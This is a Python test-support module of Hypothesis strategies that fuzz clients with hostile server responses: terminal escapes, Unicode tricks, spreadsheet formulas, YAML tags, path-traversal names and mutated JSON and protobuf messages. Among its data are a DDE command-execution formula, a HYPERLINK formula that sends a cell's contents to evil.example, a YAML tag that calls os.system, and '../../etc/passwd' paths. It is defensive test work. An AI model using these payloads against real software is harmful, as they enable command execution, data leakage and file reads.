"""What a hostile or broken server may say: texts, numbers and shapes, and real answers spoiled with them."""

from __future__ import annotations

import copy
import math
from collections.abc import Iterator
from typing import Any

from google.protobuf.descriptor import FieldDescriptor
from hypothesis import strategies as st

#: Terminal escapes, control characters, and marks that reorder or hide text.
_TERMINAL = (
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07", "\x1bP+q544e\x1b\\", "\x1b[6n", "\x9b31m", "\x9d0;title\x9c", "\x90q\x9c",
    "\x00nul",
    "a\x08\x08\x08b", "bell\x07", "del\x7f", "\x1b[?1049h", "\x1bc",
    "\u202egnp.exe", "\u2066isolated\u2069", "\u200bzero\u200bwidth", "\u200f\u200e\u061c", "\ufeffmark",
    "\u2028line\u2029end", "\u2060\u206a\u206f", "\ufff9\ufffa\ufffb", "\U000e0041\U000e007f", "\u180e",
    "\x85next\x0b\x0c",
)  # fmt: skip
_UNICODE = (
    "Å\u030a\u0301\u0301\u0301", "Z\u0351\u036b\u0343\u036a\u0302", "\u0301", "東京電力", "한국", "مرحبا بالعالم",
    "שלום", "👩‍👩‍👧‍👦 Familie", "🇩🇪", "👍🏽", "ﷺ", "\uff46\uff55\uff4c\uff4c", "ﬁ", "\U0001f468\u200d",
    "e\u0301" * 40, "\ud800", "a\udfffb", "\udc00\ud800", "\U0010ffff", "\ufffe", "ß", "İ", "ǅ",
    "\u1160\u3164",
    "\u00ad", "\ufe0f",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+cmd", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "\u00a0=1",
    '=HYPERLINK("https://evil.example?"&A1,"x")', "=\x00", "\uff1d1+1", "\uff20x", "+46 70 123 45 67",
    "-5", "+1e3", "-", "+",
    "-1.5", "- 1", "-1,5", "+4670", '"=1"', "'=1", ";=1", ",=1", "a,b;c\t\"d\"'e'", "a\r\nb", "--1", "-1-1",
    "+A1", "-A1",
    "\x1b=1", "\u200b=1", "\ufeff=1", "=", "@", "%0", "|x",
)  # fmt: skip
_YAML = (
    "!!python/object/apply:os.system ['id']", "!!binary x", "yes", "No", "on", "null", "Null", "~", "true",
    "1e3", "0o17",
    "017", "0x1F", "1_000", "190:20:30", "2026-11-21", "2026-11-21T10:00:00Z", " lead", "trail ", "a: b",
    "# comment",
    "a #b", "- item", "? key", "&anchor", "*alias", "<<", "=", "%TAG", "---", "...", "[", "{", "|", ">", "'",
    '"', ".inf",
    ".nan", "-.INF", "\\", "\\u0041", "\\ud800", "`", "@at", ":", "a:", "key:\n  nested", "\n", "\t", "", " ",
    "1.", ".5",
    "+1", "0b1", "1__0", "08",
)  # fmt: skip
_NAMES = (
    "../../etc/passwd", "..", ".", "/abs/olute", "C:\\Windows\\x", "\\\\host\\share", "CON", "nul.pdf",
    "COM1.txt", "aux",
    "a.", "a ", "-rf", ".bashrc", "n" * 300, "ü" * 200, "a\x00b.pdf", "a/b", "%2e%2e%2f", "~root", "con .pdf",
    "lpt¹", "CONIN$",
    "x.pdf\u202efdp.exe", "🔌" * 90 + ".pdf", "..." , "x" * 149 + ".",
    "a" * 140 + "." + "b" * 200, "\ud800.pdf", "clock$",
)  # fmt: skip
_LIKE_NUMBERS = (
    "NaN",
    "nan",
    "Infinity",
    "-inf",
    "1e999",
    "0x10",
    "\u0967\u0968",
    "²",
    "1,5",
    "1 000",
    "12e",
    "--5",
    "1_0",
)
_TIMES = (
    "2026-13-45T99:99:99Z", "0000-00-00", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00",
    "2026-03-29T02:30:00",
    "2026-10-25T02:30:00", "2026-11-21T10:00:00+24:00", "2026-11-21T10:00:00-23:59",
    "1969-12-31T23:59:59.999999999Z",
    "2026-11-21", "10:00", "2026-W47-1", "1763719200", "2026-11-21T10:00:60Z", "2026-11-21T24:00:00Z",
    "\uff19999-12-31",
)  # fmt: skip
TEXTS = (*_TERMINAL, *_UNICODE, *_FORMULAS, *_YAML, *_NAMES, *_LIKE_NUMBERS, *_TIMES)


def _as_read(text: str) -> str:
    """Return a text as a reader of JSON gives it: two halves that fit are one character."""
    return text.encode("utf-16", "surrogatepass").decode("utf-16", "surrogatepass")


texts = st.one_of(
    st.sampled_from(TEXTS),
    st.text(st.characters(), max_size=12),
    st.builds(str.__add__, st.sampled_from(TEXTS), st.sampled_from(TEXTS)),
    st.builds(
        lambda text: (text * 10_000)[:10_000], st.sampled_from((*_TERMINAL, *_UNICODE, "x", "a b ", "=", "1"))
    ),
).map(_as_read)
names = st.one_of(
    st.sampled_from((*_NAMES, *_TERMINAL, *_FORMULAS)), st.text(st.characters(), max_size=200), texts
)
#: JSON has no number that Python's reader takes for endless, but 1e999 it does.
finite = st.one_of(
    st.sampled_from(
        (
            0,
            -0.0,
            -1,
            2**53 + 1,
            10**30,
            10**400,
            -(10**400),
            1e22,
            5e-324,
            1.7e308,
            0.1 + 0.2,
            1e-7,
            12345678.9,
        )
    ),
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
)
numbers = finite | st.sampled_from((math.inf, -math.inf))


def nested(depth: int, inside: Any) -> Any:
    """Return a value inside so many lists and objects."""
    for level in range(depth):
        inside = [inside] if level % 2 else {"deeper": inside}
    return inside


def wide(count: int, inside: Any) -> dict[str, Any]:
    """Return an object of so many fields."""
    return {f"field {number}": inside for number in range(count)}


simple = st.one_of(texts, numbers, st.booleans(), st.none())
values = st.one_of(
    simple,
    st.sampled_from(([], {}, [None], [[]], [{}], {"": None})).map(copy.deepcopy),
    st.lists(simple, max_size=3),
    st.dictionaries(texts, simple, max_size=3),
    st.builds(nested, st.sampled_from((2, 7, 100, 190)), simple),
    st.builds(wide, st.just(1_000), st.sampled_from((None, 1, "x", "=1", "\x1b[2J"))),
)


def places(data: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield the way to every value inside a JSON value, the outermost first."""
    inner = data.items() if isinstance(data, dict) else enumerate(data) if isinstance(data, list) else ()
    ways = [(*at, key) for key, _ in inner]
    yield from ways
    for way in ways:
        yield from places(data[way[-1]], way)


@st.composite
def spoiled(draw: st.DrawFn, data: Any) -> Any:
    """Spoil one to three places of a JSON value: another value, another name, none, too many, or one level deeper."""
    data = copy.deepcopy(data)
    for _ in range(draw(st.integers(1, 3))):
        ways = list(places(data))
        if not ways:
            return draw(values)
        *path, last = draw(st.sampled_from(ways))
        holder = data
        for key in path:
            holder = holder[key]
        how = draw(st.sampled_from(("replace", "replace", "replace", "drop", "wrap", "more", "rename")))
        if how == "replace":
            holder[last] = draw(values)
        elif how == "drop":
            del holder[last]
        elif how == "wrap":
            holder[last] = [holder[last]] if draw(st.booleans()) else {"data": holder[last]}
        elif isinstance(holder, list):
            holder.insert(last, draw(st.one_of(values, st.just(copy.deepcopy(holder[last])))))
        elif how == "more":
            holder[draw(texts)] = draw(values)
        else:
            holder[draw(texts)] = holder.pop(last)
    return data


# -- messages of protobuf --------------------------------------------------------------------------------------

_KINDS = {
    FieldDescriptor.CPPTYPE_STRING: texts.map(lambda text: text.encode("utf-8", "replace").decode()),
    FieldDescriptor.CPPTYPE_BOOL: st.booleans(),
    FieldDescriptor.CPPTYPE_ENUM: st.sampled_from((0, 1, 2, 99, -1, 2**31 - 1)),
    FieldDescriptor.CPPTYPE_INT32: st.sampled_from((0, -1, 2**31 - 1, -(2**31))),
    FieldDescriptor.CPPTYPE_UINT32: st.sampled_from((0, 1, 2**32 - 1)),
    FieldDescriptor.CPPTYPE_INT64: st.sampled_from((0, -1, 2**63 - 1, -(2**63))),
    FieldDescriptor.CPPTYPE_UINT64: st.sampled_from((0, 1, 2**64 - 1)),
    FieldDescriptor.CPPTYPE_FLOAT: st.sampled_from((0.0, -0.0, -1.0, 3e38, math.inf, -math.inf, math.nan)),
    FieldDescriptor.CPPTYPE_DOUBLE: st.sampled_from(
        (0.0, -0.0, -1.0, 1.7e308, 5e-324, math.inf, -math.inf, math.nan)
    ),
}


def messages_in(message: Any) -> Iterator[Any]:
    """Yield a message and all inside it."""
    yield message
    for field, value in message.ListFields():
        if field.message_type is not None:
            for one in value if field.is_repeated else [value]:
                yield from messages_in(one)


@st.composite
def spoiled_message(draw: st.DrawFn, message: Any) -> Any:
    """Spoil one to four fields of a message: another value, none, or more or fewer of a list."""
    spoilt = type(message)()
    spoilt.CopyFrom(message)
    for _ in range(draw(st.integers(1, 4))):
        holder = draw(st.sampled_from(list(messages_in(spoilt))))
        field = draw(st.sampled_from(list(holder.DESCRIPTOR.fields)))
        if field.is_repeated:
            values = getattr(holder, field.name)
            how = draw(st.sampled_from(("drop", "cut", "twice", "odd", "turn")))
            if how == "drop" or not len(values):
                holder.ClearField(field.name)
            elif how == "cut":
                del values[draw(st.integers(0, len(values) - 1)) :]
            elif how == "twice":
                values.extend(list(values)[: draw(st.integers(1, 3))])
            elif how == "turn" and field.message_type is None:
                values[:] = list(values)[::-1]
            elif field.message_type is None:
                values[draw(st.integers(0, len(values) - 1))] = draw(_KINDS[field.cpp_type])
        elif field.message_type is not None or draw(st.integers(0, 3)) == 0:
            holder.ClearField(field.name)
        else:
            setattr(holder, field.name, draw(_KINDS[field.cpp_type]))
    return spoilt
